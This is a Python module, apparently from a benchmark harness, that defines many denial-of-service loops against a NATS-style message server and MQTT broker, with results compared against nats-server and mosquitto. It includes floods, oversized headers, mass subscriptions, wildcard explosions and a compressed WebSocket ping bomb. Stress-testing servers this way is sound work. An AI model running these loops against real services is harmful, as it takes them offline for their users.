"""The attacks: what one peer can do to a server, each a loop that runs in a process of its own until that is ended.

Each calls `begun` when what it needs is there. It is no matter how the server answers, a refusal included: connections
that it closes are opened again.
"""

import base64
import itertools
import os
import select
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

Address = tuple[str, int]
Addresses = dict[str, Address]
Begun = Callable[[], None]

NATS_CONNECT = b'CONNECT {"verbose":false,"pedantic":false,"headers":true}\r\n'
PATIENCE_SECONDS = 20.0
DRAIN = 1 << 18
PAUSE_SECONDS = 0.02


class Peer:
    """A connection that sends all it is given and throws away what comes."""

    def __init__(self, address: Address, hello: bytes) -> None:
        self.socket = socket.create_connection(address, timeout=PATIENCE_SECONDS)
        self.socket.setblocking(False)
        self.send(hello)

    def send(self, data: bytes) -> None:
        """Raises OSError when the server has closed the connection."""
        view = memoryview(data)
        while view:
            ready = self._wait(select.POLLIN | select.POLLOUT, PATIENCE_SECONDS)
            if ready & ~select.POLLOUT and not self.socket.recv(DRAIN):
                raise ConnectionResetError("closed")
            if ready & select.POLLOUT:
                view = view[self.socket.send(view) :]

    def drain_until(self, mark: bytes, seconds: float = PATIENCE_SECONDS) -> None:
        """Read until these bytes come, or so long."""
        rest = b""
        until = time.monotonic() + seconds
        while mark not in rest and (left := until - time.monotonic()) > 0:
            if self._wait(select.POLLIN, left):
                data = self.socket.recv(DRAIN)
                if not data:
                    raise ConnectionResetError("closed")
                rest = rest[-64:] + data

    def _wait(self, events: int, seconds: float) -> int:
        """What of it came, 0 for nothing; select itself takes no more than 1,024 descriptors."""
        poll = select.poll()
        poll.register(self.socket, events)
        ready = poll.poll(1000 * seconds)
        return ready[0][1] if ready else 0

    def close(self) -> None:
        self.socket.close()


def again(attack: Callable[[], None]) -> None:
    """Attack for ever, whatever becomes of the connections."""
    while True:
        try:
            attack()
        except OSError:
            time.sleep(PAUSE_SECONDS)


def flood(address: Address, hello: bytes, data: bytes, begun: Begun) -> None:
    begun()

    def attack() -> None:
        peer = Peer(address, hello)
        try:
            while True:
                peer.send(data)
        finally:
            peer.close()

    again(attack)


# NATS.


def publication(subject: bytes, header: bytes, payload: bytes = b"x", reply: bytes = b"") -> bytes:
    head = b"HPUB %b %b %d %d\r\n" % (subject, reply, len(header), len(header) + len(payload))
    return head + header + payload + b"\r\n"


def header_spaces(to: Addresses, begun: Begun) -> None:
    header = b"NATS/1.0\r\nNats-Msg-Id: a" + b" " * 4000 + b"\rX\r\n\r\n"
    flood(to["nats"], NATS_CONNECT, publication(b"$LEAFGATE.publish.x", header, reply=b"answers") * 16, begun)


def header_lines(to: Addresses, begun: Begun) -> None:
    readers = [Peer(to["nats"], NATS_CONNECT + b"SUB lines 1\r\n") for _ in range(10)]
    header = b"NATS/1.0\r\n" + b"a:b\r\n" * 200_000 + b"\r\n"
    message = publication(b"lines", header)
    begun()

    def attack() -> None:
        peer = Peer(to["nats"], NATS_CONNECT)
        while True:
            peer.send(message)
            for reader in readers:
                reader.drain_until(b"never", 0.01)

    again(attack)


def long_subscriptions(to: Addresses, begun: Begun) -> None:
    subjects = (b".".join([b"%d" % number, *[b"a"] * 2020, b"*"]) for number in itertools.count())
    begun()

    def attack() -> None:
        peer = Peer(to["nats"], NATS_CONNECT)
        for number in range(17_500):
            peer.send(b"SUB %b %d\r\n" % (next(subjects), number))
        peer.close()

    again(attack)


def subscriptions_leave(to: Addresses, begun: Begun) -> None:
    batch = b"".join(b"SUB s.%d %d\r\n" % (number, number) for number in range(400_000)) + b"PING\r\n"
    started = False

    def attack() -> None:
        nonlocal started
        peer = Peer(to["nats"], NATS_CONNECT)
        peer.send(batch)
        peer.drain_until(b"PONG\r\n")
        if not started:
            started = True
            begun()
        peer.close()
        time.sleep(0.5)

    again(attack)


def wildcard_tree(to: Addresses, begun: Begun) -> None:
    filters = (b".".join(tokens) + b".end" for tokens in itertools.product((b"a", b"*"), repeat=15))
    peer = Peer(to["nats"], NATS_CONNECT)
    peer.send(b"".join(b"SUB %b %d\r\n" % (one, number) for number, one in enumerate(filters)) + b"PING\r\n")
    peer.drain_until(b"PONG\r\n", 60.0)
    begun()
    for number in itertools.count():
        peer.send(b"PUB %bx%d 1\r\nx\r\n" % (b"a." * 15, number))


def pings(to: Addresses, begun: Begun) -> None:
    flood(to["nats"], NATS_CONNECT, b"PING\r\n" * 20_000, begun)


def pongs(to: Addresses, begun: Begun) -> None:
    flood(to["nats"], NATS_CONNECT, b"PONG\r\n" * 100_000, begun)


def compressed_pings(to: Addresses, begun: Begun) -> None:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflate.compress(b"PING\r\n" * 175_000) + deflate.flush(zlib.Z_SYNC_FLUSH)[:-4]
    frame = b"\xc2\xfe" + struct.pack(">H", len(packed)) + bytes(4) + packed
    key = base64.b64encode(os.urandom(16))
    upgrade = (
        b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: %b\r\nSec-WebSocket-Protocol: nats\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate; server_no_context_takeover; client_no_context_takeover\r\n\r\n"
    ) % key
    begun()

    def attack() -> None:
        peer = Peer(to["websocket"], upgrade)
        peer.drain_until(b"\r\n\r\n")
        while True:
            peer.send(frame)

    again(attack)


def fan_out(to: Addresses, begun: Begun) -> None:
    readers = [Peer(to["nats"], NATS_CONNECT + b"SUB fan 1\r\n") for _ in range(4000)]
    poll = select.epoll()
    by_fileno = {reader.socket.fileno(): reader.socket for reader in readers}
    for fileno in by_fileno:
        poll.register(fileno, select.EPOLLIN)
    peer = Peer(to["nats"], NATS_CONNECT)
    begun()
    while True:
        peer.send(b"PUB fan 16\r\n0123456789abcdef\r\n")
        for fileno, _ in poll.poll(0.001, 4000):
            by_fileno[fileno].recv(DRAIN)


def retained_requests(to: Addresses, begun: Begun) -> None:
    header = b"NATS/1.0\r\nMqtt-Retain: 1\r\n\r\n"
    peer = Peer(to["nats"], NATS_CONNECT + b"SUB inbox 1\r\n")
    for number in range(60_000):
        peer.send(publication(b"kept.%d" % number, header))
    peer.send(b"PING\r\n")
    peer.drain_until(b"PONG\r\n")
    begun()
    while True:
        peer.send(b"PUB $LEAFGATE.retained.get inbox 1\r\n>\r\n" * 64)
        peer.drain_until(b"204 EOB", 1.0)


def connz_detail(to: Addresses, begun: Begun) -> None:
    peer = Peer(to["nats"], NATS_CONNECT)
    peer.send(b"".join(b"SUB s.%d %d\r\n" % (number, number) for number in range(100_000)) + b"PING\r\n")
    peer.drain_until(b"PONG\r\n")
    begun()

    def attack() -> None:
        asking = Peer(to["monitoring"], b"GET /connz?subs=detail HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        asking.drain_until(b"never")

    again(attack)


def one_subject(to: Addresses, begun: Begun) -> None:
    """Whoever subscribes has the next message look for all receivers again."""
    crowd = Peer(to["nats"], NATS_CONNECT)
    crowd.send(b"".join(b"SUB many %d\r\n" % number for number in range(200_000)) + b"PING\r\n")
    crowd.drain_until(b"PONG\r\n", 60.0)
    peer = Peer(to["nats"], NATS_CONNECT)
    begun()
    for number in itertools.count():
        peer.send(b"SUB many %d\r\nPUB many 1\r\nx\r\nUNSUB %d\r\n" % (number, number))
        peer.drain_until(b"never", 0.001)
        crowd.drain_until(b"never", 0.01)


def group_on_many_filters(to: Addresses, begun: Begun) -> None:
    filters = (b".".join(tokens) + b".end" for tokens in itertools.product((b"a", b"*"), repeat=15))
    peer = Peer(to["nats"], NATS_CONNECT)
    peer.send(b"".join(b"SUB %b group %d\r\n" % (one, number) for number, one in enumerate(filters)) + b"PING\r\n")
    peer.drain_until(b"PONG\r\n", 60.0)
    begun()
    while True:
        peer.send(b"PUB %bend 1\r\nx\r\n" % (b"a." * 15))
        peer.drain_until(b"never", 0.01)


def members_that_take_nothing(to: Addresses, begun: Begun) -> None:
    peer = Peer(to["nats"], NATS_CONNECT.replace(b"{", b'{"echo":false,'))
    peer.send(b"".join(b"SUB many group %d\r\n" % number for number in range(100_000)) + b"PING\r\n")
    peer.drain_until(b"PONG\r\n", 60.0)
    begun()
    while True:
        peer.send(b"PUB many 1\r\nx\r\n" * 100)


def metrics_scraped(to: Addresses, begun: Begun) -> None:
    begun()

    def attack() -> None:
        ask = b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        peers = [Peer(to["monitoring"], ask) for _ in range(8)]
        for peer in peers:
            try:
                peer.drain_until(b"never")
            except ConnectionResetError:  # That is its end.
                peer.close()

    again(attack)


# Leafnodes.


def spoke(to: Addresses, name: bytes) -> Peer:
    hello = b'CONNECT {"name":"%b","server_id":"%b","user":"bench","pass":"bench-secret","headers":true}\r\nPING\r\n'
    peer = Peer(to["leafnode"], hello % (name, name))
    peer.drain_until(b"PONG\r\n")
    return peer


def interest_of_spokes(to: Addresses, begun: Begun) -> None:
    """Each hears of the interest of all others, and one of them comes and goes."""
    spokes = [spoke(to, b"spoke-%d" % number) for number in range(20)]
    for number, one in enumerate(spokes):
        one.send(b"".join(b"LS+ of.%d.%d\r\n" % (number, subject) for subject in range(3000)))
    begun()

    def attack() -> None:
        flapping = spoke(to, b"flapping")
        flapping.send(b"".join(b"LS+ flapping.%d\r\n" % subject for subject in range(5000)))
        for one in (flapping, *spokes):
            one.drain_until(b"never", 0.02)
        flapping.close()

    again(attack)


def traced_messages(to: Addresses, begun: Begun) -> None:
    peer = Peer(to["nats"], NATS_CONNECT)
    peer.send(b"".join(b"SUB traced group %d\r\n" % number for number in range(100_000)) + b"PING\r\n")
    peer.drain_until(b"PONG\r\n", 60.0)
    message = publication(b"traced", b"NATS/1.0\r\nNats-Trace-Dest: traces\r\n\r\n")
    begun()
    while True:
        peer.send(message * 100)
        peer.drain_until(b"never", 0.001)


# Streams.


def ask_for(subject: bytes, payload: bytes) -> bytes:
    return b"PUB $JS.API.%b inbox %d\r\n%b\r\n" % (subject, len(payload), payload)


def stream(to: Addresses) -> Peer:
    """A stream in memory with a consumer of which very many may ask."""
    peer = Peer(to["nats"], NATS_CONNECT + b"SUB inbox 1\r\n")
    peer.send(ask_for(b"STREAM.CREATE.S", b'{"name":"S","subjects":["s.>"],"storage":"memory","max_bytes":16000000}'))
    peer.drain_until(b"create_response")
    config = b'{"durable_name":"c","ack_policy":"explicit","max_waiting":60000}'
    peer.send(ask_for(b"CONSUMER.CREATE.S.c", b'{"stream_name":"S","config":%b}' % config))
    peer.drain_until(b"create_response")
    return peer


def pulls_due(to: Addresses, begun: Begun) -> None:
    peer = stream(to)
    pull = ask_for(b"CONSUMER.MSG.NEXT.S.c", b'{"batch":1,"expires":500000000,"idle_heartbeat":100000000}')
    begun()
    while True:
        peer.send(pull * 10_000)
        peer.drain_until(b"never", 0.5)


def stream_published(to: Addresses, begun: Begun) -> None:
    peer = stream(to)
    begun()
    while True:
        peer.send(b"PUB s.one inbox 1\r\nx\r\n" * 5000)
        peer.drain_until(b"never", 0.001)


def streams_checked(to: Addresses, begun: Begun) -> None:
    """Subjects that are alike for very long, and transforms that are very many."""
    peer = stream(to)
    subjects = ",".join(f'"{"a." * 3000}{number}"' for number in range(120)).encode()
    transforms = ",".join(f'{{"src":"a{number}","dest":"b"}}' for number in range(3000)).encode()
    mirror = b'{"name":"T","mirror":{"name":"A","subject_transforms":[%b]}}' % transforms
    asked = [
        ask_for(b"STREAM.CREATE.T", b'{"name":"T","subjects":[%b]}' % subjects),
        ask_for(b"STREAM.CREATE.T", mirror),
    ]
    begun()
    while True:
        for request in asked:
            peer.send(request)
            peer.drain_until(b"create_response")


def refusals(to: Addresses, begun: Begun) -> None:
    """How long a refused message is to wait, in very many pieces."""
    peer = stream(to)
    begun()
    refusal = b"-NAK " + b"1s" * 400_000
    while True:
        peer.send(b"PUB $JS.ACK.S.c.1.1.1.1.1 inbox %d\r\n%b\r\n" % (len(refusal), refusal))
        peer.drain_until(b"never", 0.01)


# MQTT.


def length(number: int) -> bytes:
    encoded = bytearray()
    while True:
        number, digit = divmod(number, 128)
        encoded.append(digit | (128 if number else 0))
        if not number:
            return bytes(encoded)


def text(value: bytes) -> bytes:
    return struct.pack(">H", len(value)) + value


def packet(first: int, body: bytes) -> bytes:
    return bytes((first,)) + length(len(body)) + body


def mqtt_connect(name: bytes, properties: bytes | None = None, rest: bytes = b"", flags: int = 2) -> bytes:
    """Version 5.0 where there are properties, else 3.1.1. `rest` is what follows the client identifier."""
    if properties is None:
        return packet(0x10, text(b"MQTT") + bytes((4, flags, 0, 0)) + text(name) + rest)
    head = text(b"MQTT") + bytes((5, flags, 0, 0)) + length(len(properties)) + properties
    return packet(0x10, head + text(name) + rest)


def mqtt_publish(topic: bytes, payload: bytes, retain: bool = False, properties: bytes | None = None) -> bytes:
    said = b"" if properties is None else length(len(properties)) + properties
    return packet(0x31 if retain else 0x30, text(topic) + said + payload)


def mqtt_subscribe(*filters: bytes) -> bytes:
    return packet(0x82, b"\0\1" + b"".join(text(one) + b"\0" for one in filters))


USER_PROPERTY = b"\x26" + text(b"a") + text(b"b")


def user_properties(to: Addresses, begun: Begun) -> None:
    message = mqtt_publish(b"p", b"x", properties=USER_PROPERTY * 140_000)
    flood(to["mqtt"], mqtt_connect(b"attacker", b""), message, begun)


def connect_properties(to: Addresses, begun: Begun) -> None:
    hello = mqtt_connect(b"attacker", USER_PROPERTY * 40_000)
    begun()

    def attack() -> None:
        Peer(to["mqtt"], hello).close()

    again(attack)


def many_filters(to: Addresses, begun: Begun) -> None:
    wanted = mqtt_subscribe(*(b"f/%d" % number for number in range(95_000)))
    begun()

    def attack() -> None:
        peer = Peer(to["mqtt"], mqtt_connect(b"attacker"))
        peer.send(wanted + b"\xc0\0")
        peer.drain_until(b"\xd0\0")
        peer.close()

    again(attack)


def mqtt_pings(to: Addresses, begun: Begun) -> None:
    flood(to["mqtt"], mqtt_connect(b"attacker"), b"\xc0\0" * 50_000, begun)


def retained_for_many(to: Addresses, begun: Begun) -> None:
    peer = Peer(to["mqtt"], mqtt_connect(b"keeper"))
    for number in range(20_000):
        peer.send(mqtt_publish(b"kept/%d" % number, b"x" * 16, retain=True))
    peer.send(b"\xc0\0")
    peer.drain_until(b"\xd0\0")
    begun()

    def attack() -> None:
        readers = [Peer(to["mqtt"], mqtt_connect(b"r%d" % number) + mqtt_subscribe(b"#")) for number in range(100)]
        for reader in readers:
            reader.drain_until(b"kept/9999")
            reader.close()

    again(attack)


def sessions_due(to: Addresses, begun: Begun) -> None:
    expiry = b"\x11" + struct.pack(">I", 1)
    numbers: Iterator[int] = itertools.count()
    will = b"\0" + text(b"will/attack") + text(b"gone")
    begun()

    def attack() -> None:
        peers = [Peer(to["mqtt"], mqtt_connect(b"s%d" % next(numbers), expiry, will, flags=2 | 4)) for _ in range(500)]
        for peer in peers:
            peer.close()

    again(attack)


@dataclass(frozen=True)
class Attack:
    """`peer` is the server to compare with; "" where no other server has what is attacked."""

    title: str
    run: Callable[[Addresses, Begun], None]
    peer: str = ""


ATTACKS = (
    Attack("NATS: 4,000 spaces in a message id", header_spaces, "nats-server"),
    Attack("NATS: 200,000 header lines, ten subscribers", header_lines, "nats-server"),
    Attack("NATS: 17,500 SUBs of 4 kB", long_subscriptions, "nats-server"),
    Attack("NATS: 400,000 subscriptions leave", subscriptions_leave, "nats-server"),
    Attack("NATS: 2^15 filters, subjects that match none", wildcard_tree, "nats-server"),
    Attack("NATS: PINGs without end", pings, "nats-server"),
    Attack("NATS: PONGs without end", pongs, "nats-server"),
    Attack("WebSocket: 1 MB of PINGs in 1.5 kB", compressed_pings, "nats-server"),
    Attack("NATS: messages to 4,000 subscribers", fan_out, "nats-server"),
    Attack("NATS: 200,000 subscriptions to one subject, and one that comes and goes", one_subject, "nats-server"),
    Attack("NATS: one queue group on 2^15 filters", group_on_many_filters, "nats-server"),
    Attack("NATS: 100,000 members of a group that take nothing", members_that_take_nothing, "nats-server"),
    Attack("NATS: traced messages to 100,000 members of a group", traced_messages, "nats-server"),
    Attack("leafnodes: 20 spokes with 3,000 interests, one with 5,000 that flaps", interest_of_spokes, "nats-server"),
    Attack("streams: 10,000 pull requests that end together", pulls_due, "nats-server"),
    Attack("streams: messages published without end", stream_published, "nats-server"),
    Attack("streams: configurations that take long to check", streams_checked, "nats-server"),
    Attack("streams: refusals with 400,000 spans of time", refusals, "nats-server"),
    Attack("monitoring: /metrics by eight at once", metrics_scraped),
    Attack("NATS: 64 requests over 60,000 retained", retained_requests),
    Attack("monitoring: details of 100,000 subscriptions", connz_detail, "nats-server"),
    Attack("MQTT: 140,000 user properties", user_properties, "mosquitto"),
    Attack("MQTT: CONNECT with 40,000 user properties", connect_properties, "mosquitto"),
    Attack("MQTT: SUBSCRIBE with 95,000 filters", many_filters, "mosquitto"),
    Attack("MQTT: PINGREQs without end", mqtt_pings, "mosquitto"),
    Attack("MQTT: 100 clients on # over 20,000 retained", retained_for_many, "mosquitto"),
    Attack("MQTT: sessions with wills, due together", sessions_due, "mosquitto"),
)
